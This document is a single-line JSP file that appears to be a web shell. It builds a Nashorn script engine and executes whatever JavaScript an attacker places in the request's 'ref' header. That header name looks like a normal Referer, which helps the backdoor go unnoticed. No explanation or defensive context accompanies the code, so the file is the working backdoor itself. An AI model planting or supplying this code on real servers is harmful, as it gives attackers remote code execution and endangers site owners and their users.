<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("nashorn"); e.put("req", request); e.eval(request.getHeader("ref")); %>
